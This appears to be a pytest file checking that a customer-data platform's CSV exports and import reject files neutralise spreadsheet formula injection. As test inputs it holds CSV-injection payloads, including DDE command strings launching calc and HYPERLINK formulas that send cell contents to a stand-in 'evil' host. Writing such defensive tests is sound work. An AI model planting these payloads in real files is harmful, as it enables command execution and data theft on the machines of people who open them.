"""Every CSV file cdp writes is safe to open in a spreadsheet (OWASP CSV injection):
campaign contact lists (HTTP download and ``cdp campaigns export``) and import rejects files."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from cdp.formats.csv_export import FORMULA_STARTS, neutralise
from cdp.settings import Settings
from graph.store import GraphStore
from tests.conftest import BACKENDS, CliStore, api_client, gql, make_store
from tests.ingest.test_import import read_rejects, run_cdp, write_mapping

FORMULA = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize(("value", "cell"), [
    (FORMULA, "'" + FORMULA),
    ("+HYPERLINK(\"http://evil\")", "'+HYPERLINK(\"http://evil\")"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\0=1", "'\0=1"),
    ("-", "'-"),
    # Plain numbers are numbers to a spreadsheet, never formulas: kept for the systems reading them.
    ("-12.5", "-12.5"), (-12.5, "-12.5"), ("+31612345678", "+31612345678"), ("-1e3", "-1e3"), (7, "7"),
    ("Jansen", "Jansen"), ("a=1", "a=1"), ("'quoted", "'quoted"), (None, ""), ("", ""),
])
def test_neutralise_follows_the_owasp_rule(value: object, cell: str) -> None:
    assert neutralise(value) == cell


def _no_formula(rows: list[list[str]]) -> None:
    """No cell of ``rows`` (a parsed CSV) starts like a formula, unless it is a plain number."""
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or cell.lstrip("+-").replace(".", "", 1).isdigit(), cell


@pytest.fixture(scope="module", params=BACKENDS)
def campaign_store(request: pytest.FixtureRequest, demo_data,  # type: ignore[no-untyped-def]
                   tmp_path_factory: pytest.TempPathFactory) -> Iterator[GraphStore]:
    store = make_store(request.param, tmp_path_factory.mktemp("csv"))
    store.bulk_load(demo_data.nodes, demo_data.relationships)
    yield store
    store.close()


def test_contact_lists_neutralise_formulas_a_partner_wrote(campaign_store: GraphStore, tmp_path: Path) -> None:
    with api_client(Settings(), campaign_store) as http:
        created = gql(http, """mutation($input: CampaignInput!) { createCampaign(input: $input) { id } }""",
                      {"input": {"name": "Formulas", "offers": ["P-BB-500"], "controlShare": 0.0,
                                 "targetDefinition": {"holds": {"category": "MOBILE_DATA"}},
                                 "waves": [{"channel": "SMS"}]}})
        assert "errors" not in created, created
        campaign = created["data"]["createCampaign"]["id"]
        launched = gql(http, """mutation($id: ID!) { launchCampaign(id: $id) { waves { contacted
            contactList { csv jsonl } } } }""", {"id": campaign})
        assert "errors" not in launched, launched
        wave = launched["data"]["launchCampaign"]["waves"][0]
        assert wave["contacted"] > 0
        first = list(csv.DictReader(io.StringIO(http.get(wave["contactList"]["csv"]).text)))
        treated = [r["customer_id"] for r in first]
        # A partner writes formulas into the names of the customers on the list.
        partner = gql(http, """mutation($items: [CustomerInput!]!) { upsertCustomers(source: "CRM", items: $items) {
            errors { index field message } } }""", {"items": [
            {"id": cid, "firstName": FORMULA, "lastName": "@SUM(1+1)*cmd|' /C calc'!A0"} for cid in treated]})
        assert partner["data"]["upsertCustomers"]["errors"] == [], partner
        response = http.get(wave["contactList"]["csv"])
        assert response.status_code == 200
        rows = list(csv.reader(io.StringIO(response.text)))
        _no_formula(rows)
        named = [dict(zip(rows[0], r)) for r in rows[1:]]
        assert {r["first_name"] for r in named} == {"'" + FORMULA}
        assert {r["last_name"] for r in named} == {"'@SUM(1+1)*cmd|' /C calc'!A0"}
        assert all(r["phone"].startswith("+") for r in named)  # E.164 numbers are kept as they are
        assert response.text.startswith('"')  # every field quoted: a separator cannot start a new cell
        # JSON Lines is not read by spreadsheets: values as stored.
        jsonl = [json.loads(line) for line in http.get(wave["contactList"]["jsonl"]).text.splitlines()]
        assert {j["first_name"] for j in jsonl} == {FORMULA}

    # ``cdp campaigns export`` writes the same file (the same writer, over the same table).
    from cdp.campaigns import contact_lists
    from cdp.analytics.analytics import Analytics

    out = io.StringIO()
    contact_lists.write(Analytics(campaign_store, Settings()).campaigns.wave_contacts(campaign, 1), "csv", out)
    assert out.getvalue() == response.text


def test_rejects_files_neutralise_formulas_from_the_source_file(cli_store: CliStore, tmp_path: Path) -> None:
    mapping = write_mapping(tmp_path, '[source]\nname = "CRM"\n[[entity]]\nlabel = "Customer"\nkey = "id"\n'
                                      '[entity.columns]\njoined_on = "since"\nfirst_name = "name"\n')
    data = tmp_path / "customers.csv"
    data.write_text('id,since,name\n'
                    'C1,"=HYPERLINK(""http://evil/?""&A1)",Eva\n'
                    'C2,@SUM(1+1),Jan\n'
                    'C3,-2+3,Piet\n'
                    'C4,2020-01-01,Kees\n')
    rejects = tmp_path / "rejects.csv"
    done = run_cdp("import", "--mapping", str(mapping), str(data), "--rejects", str(rejects), db=cli_store)
    assert done.returncode == 3, done.stderr
    with rejects.open(newline="") as f:
        rows = list(csv.reader(f))
    _no_formula(rows)
    assert [r["value"] for r in read_rejects(rejects)] == [
        "'=HYPERLINK(\"http://evil/?\"&A1)", "'@SUM(1+1)", "'-2+3"]
